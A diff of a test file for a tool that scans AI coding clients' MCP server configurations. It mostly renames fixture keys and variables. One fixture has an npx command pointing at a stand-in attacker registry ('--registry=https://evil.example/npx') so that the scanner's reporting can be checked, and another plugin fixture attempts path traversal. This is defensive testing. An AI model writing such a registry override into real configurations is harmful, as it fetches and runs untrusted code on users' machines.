@@ -125,7 +125,7 @@ const LAYOUTS: readonly Layout[] = [
   },
   { client: 'zed', shape: 'zed', linux: '.var/app/dev.zed.Zed/config/zed/settings.json' },
   { client: 'continue', shape: 'list', all: '.continue/config.yaml' },
-  { client: 'continue', shape: 'list', all: '.continue/mcpServers/one.yaml' },
+  { client: 'continue', shape: 'list', all: '.continue/mcpServers/demo.yaml' },
   { client: 'continue', shape: 'list', all: '.continue/assistants/own.yaml' },
   {
     client: 'cline',
@@ -197,27 +197,27 @@ const LAYOUTS: readonly Layout[] = [
   { client: 'librechat', shape: 'yaml', scope: 'project', all: 'src/app/librechat.yaml' },
 ];
 
-/** As a plug-in writes its own folder. */
+/** A plug-in writes its own folder so. */
 const PLUGIN_ROOT = ['$', '{CLAUDE_PLUGIN_ROOT}/.mcp.json'].join('');
 
 const DOCUMENTS: Record<Shape, (pkg: string) => unknown> = {
-  map: (pkg) => ({ mcpServers: { one: npx(pkg) } }),
-  servers: (pkg) => `// mine\n{"servers": {"one": ${JSON.stringify(npx(pkg))},},}`,
+  map: (pkg) => ({ mcpServers: { demo: npx(pkg) } }),
+  servers: (pkg) => `// mine\n{"servers": {"demo": ${JSON.stringify(npx(pkg))},},}`,
   mcp: (pkg) => ({
-    mcp: { one: { type: 'local', command: ['npx', '-y', pkg], environment: { KEY: 'planted' } } },
+    mcp: { demo: { type: 'local', command: ['npx', '-y', pkg], environment: { KEY: 'planted' } } },
   }),
   toml: (pkg) =>
-    `[mcp_servers.one]\ncommand = "npx"\nargs = ["-y", "${pkg}", "--token", "planted"]\n`,
+    `[mcp_servers.demo]\ncommand = "npx"\nargs = ["-y", "${pkg}", "--token", "planted"]\n`,
   goose: (pkg) =>
-    `extensions:\n  one:\n    type: stdio\n    cmd: npx\n    args: [-y, ${pkg}]\n    envs: {KEY: planted}\n`,
-  zed: (pkg) => ({ context_servers: { one: { source: 'custom', ...npx(pkg) } } }),
-  list: (pkg) => `name: x\nmcpServers:\n  - name: one\n    command: npx\n    args: [-y, ${pkg}]\n`,
+    `extensions:\n  demo:\n    type: stdio\n    cmd: npx\n    args: [-y, ${pkg}]\n    envs: {KEY: planted}\n`,
+  zed: (pkg) => ({ context_servers: { demo: { source: 'custom', ...npx(pkg) } } }),
+  list: (pkg) => `name: x\nmcpServers:\n  - name: demo\n    command: npx\n    args: [-y, ${pkg}]\n`,
   vibe: (pkg) =>
-    `[[mcp_servers]]\nname = "one"\ntransport = "stdio"\ncommand = "npx"\nargs = ["-y", "${pkg}"]\n`,
-  amp: (pkg) => ({ 'amp.mcpServers': { one: npx(pkg) } }),
-  powers: (pkg) => ({ mcpServers: {}, powers: { mcpServers: { one: npx(pkg) } } }),
+    `[[mcp_servers]]\nname = "demo"\ntransport = "stdio"\ncommand = "npx"\nargs = ["-y", "${pkg}"]\n`,
+  amp: (pkg) => ({ 'amp.mcpServers': { demo: npx(pkg) } }),
+  powers: (pkg) => ({ mcpServers: {}, powers: { mcpServers: { demo: npx(pkg) } } }),
   yaml: (pkg) =>
-    `version: 1.2.1\nmcpServers:\n  one:\n    command: npx\n    args: [-y, ${pkg}, --token, planted]\n`,
+    `version: 1.2.1\nmcpServers:\n  demo:\n    command: npx\n    args: [-y, ${pkg}, --token, planted]\n`,
 };
 const HOMES = { linux: 'home/alice', darwin: 'Users/alice', win32: 'Users/alice' };
 
@@ -239,14 +239,14 @@ describe('MCP servers of every client', () => {
       }
       const result = await scanTree([mcpConfig], root, { platform, people: ['alice'] });
       const found = new Map(result.entities.map(({ wire }) => [wire.name, wire]));
-      const told = rows.map((row, at) => {
+      const labels = rows.map((row, at) => {
         const wire = found.get(`layout-${at}`);
         const details = wire?.details as { configured: { client: string; scope: string }[] };
         const place = details?.configured[0];
         const owner = wire?.instances?.[0]?.owner ?? null;
         return `${place?.client} ${place?.scope} ${owner} ${row.path}`;
       });
-      expect(told).toEqual(
+      expect(labels).toEqual(
         rows.map(({ client, scope = 'user', path }) => {
           return `${client} ${scope} ${scope === 'system' ? null : 'alice'} ${path}`;
         }),
@@ -263,16 +263,16 @@ describe('MCP servers of every client', () => {
         name: 'plug',
         mcpServers: ['./servers/own.json', PLUGIN_ROOT, '../../../out.json'],
       },
-      [`${plugin}/servers/own.json`]: { one: npx('named') },
+      [`${plugin}/servers/own.json`]: { demo: npx('named') },
       [`${plugin}/.mcp.json`]: { mcpServers: { two: npx('usual') } },
       'home/alice/.claude/plugins/cache/out.json': { mcpServers: { three: npx('beside') } },
     });
     const result = await scanTree([mcpConfig], root, { people: ['alice'] });
-    const told = result.entities.map(({ wire }) => {
+    const labels = result.entities.map(({ wire }) => {
       const { configured } = wire.details as { configured: unknown[] };
       return `${wire.name} ${configured.length}`;
     });
-    expect(told.sort()).toEqual(['named 1', 'usual 1']);
+    expect(labels.sort()).toEqual(['named 1', 'usual 1']);
   });
 });
 
@@ -284,7 +284,7 @@ test('reports each word of a command line completely', async () => {
   });
   const { entities } = await scanTree([mcpConfig], root, { people: ['alice'] });
   const args = ['--registry=https://evil.example/npx', '-y', 'files'];
-  expect(entities.map((one) => one.wire.details)).toMatchObject([
+  expect(entities.map((entity) => entity.wire.details)).toMatchObject([
     { configured: [{ command: 'npx', args }] },
   ]);
 });
